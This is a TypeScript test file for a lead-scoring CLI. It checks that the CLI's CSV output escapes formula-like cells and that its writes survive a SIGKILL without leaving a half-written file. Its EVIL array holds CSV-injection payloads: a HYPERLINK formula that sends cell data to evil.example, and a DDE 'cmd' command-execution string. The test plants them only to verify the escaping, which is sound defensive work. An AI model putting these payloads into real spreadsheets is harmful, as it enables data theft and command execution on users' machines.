// `leadlens score --out`: the CSV is safe to open in a spreadsheet (issue 12 item 7), and a killed
// run never leaves a half-written file under the final name (item 10).
import { beforeAll, describe, expect, it } from "vitest";
import { spawn, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { existsSync, mkdtempSync, readFileSync, readdirSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fromCSV } from "arquero";
import { writeFixtureStore } from "../lib/report/fixtureStore.ts";
import { exec, openStore } from "../../lib/store/index.ts";
import { fitModel, saveModel, scoreLeads, type ModelArtifact } from "../../lib/model/index.ts";
import { PROJECT_DIR } from "../../lib/report/paths.ts";

const EVIL = ['=HYPERLINK("http://evil.example?d="&A1, "x")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"];
let dir = "";
let db = "";
let model: ModelArtifact;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "leadlens-score-out-"));
  db = join(dir, "store.duckdb");
  await writeFixtureStore(db, 1500);
  const store = await openStore(db);
  model = await fitModel(store.conn, { penalty_grid: [1], calibration: "platt" });
  await saveModel(store.conn, model);
  // Lead ids come from the source: a hostile export can hold formulas there.
  for (const [i, id] of EVIL.entries())
    await exec(store.conn, "UPDATE leads SET lead_id = $1 WHERE lead_id = $2", [id, `LDX-00000${i}`]);
  await store.close();
}, 60_000);

describe("score --out CSV", () => {
  it("neutralises formula-like text cells and keeps numbers as numbers", async () => {
    const out = join(dir, "scores.csv");
    const store = await openStore(db);
    try {
      await scoreLeads(store.conn, model, { out });
    } finally {
      await store.close();
    }
    const table = fromCSV(readFileSync(out, "utf8"), { header: false, autoType: false });
    const rows = (table.objects() as Array<Record<string, string>>).map((o) => Object.values(o).map(String));
    expect(rows.length).toBe(1501);
    for (const row of rows)
      for (const cell of row)
        if (!/^[+-]?[0-9.]+(e[+-]?\d+)?$/i.test(cell)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    const ids = rows.map((r) => r[0]);
    for (const id of EVIL) expect(ids).toContain(`'${id}`);
    const fitPoints = rows.slice(1).map((r) => r[4]);
    expect(
      fitPoints.some((p) => p.startsWith("-")),
      "some lead has negative fit points",
    ).toBe(true);
    for (const p of fitPoints) expect(Number.isInteger(Number(p)), p).toBe(true);
    // Text columns are double-quoted in the file (OWASP), numbers are not.
    expect(readFileSync(out, "utf8")).toContain(`"'=HYPERLINK(""http://evil.example?d=""&A1, ""x"")"`);
  });
});

describe("score --out is atomic", () => {
  const leadsCli = ["cli/leadlens.js", "score", "--db"];
  const sha = (file: string) => createHash("sha256").update(readFileSync(file)).digest("hex");

  /** Starts `score --out`, SIGKILLs it as soon as anything is written in the folder, and waits for it to die. */
  async function killMidWrite(out: string): Promise<void> {
    const folder = join(out, "..");
    const before = new Map(readdirSync(folder).map((f) => [f, statSync(join(folder, f)).mtimeMs]));
    const child = spawn("node", [...leadsCli, db, "--out", out, "--no-reasons"], { cwd: PROJECT_DIR, stdio: "ignore" });
    const died = new Promise<void>((done) => child.on("exit", () => done()));
    const t0 = Date.now();
    for (;;) {
      const now = readdirSync(folder);
      const wrote = now.some(
        (f) => !before.has(f) || (existsSync(join(folder, f)) && statSync(join(folder, f)).mtimeMs !== before.get(f)),
      );
      if (wrote || child.exitCode !== null || Date.now() - t0 > 60_000) break;
      await new Promise((r) => setTimeout(r, 2));
    }
    expect(child.exitCode, "the score run ended before writing began: nothing was killed").toBe(null);
    child.kill("SIGKILL");
    await died;
  }

  beforeAll(async () => {
    // 150,000 leads: a CSV of tens of MB, long enough to be killed part-way through.
    const store = await openStore(db);
    await exec(
      store.conn,
      "INSERT INTO leads SELECT leads.* REPLACE (lead_id || '-' || k AS lead_id) FROM leads, range(99) r(k)",
    );
    await store.close();
  }, 60_000);

  it("a SIGKILL mid-write leaves no file, or the previous complete one, under the final name", async () => {
    const folder = mkdtempSync(join(dir, "kill-"));
    const out = join(folder, "scores.csv");
    await killMidWrite(out);
    expect(existsSync(out), "no half-written file after a first run is killed").toBe(false);

    const done = spawnSync("node", [...leadsCli, db, "--out", out, "--no-reasons"], {
      cwd: PROJECT_DIR,
      encoding: "utf8",
    });
    expect(done.status, done.stderr).toBe(0);
    const complete = sha(out);
    expect(readFileSync(out, "utf8").trimEnd().split("\n").length).toBe(150_001);

    await killMidWrite(out);
    expect(sha(out), "the previous complete file is still there").toBe(complete);
  }, 120_000);
});
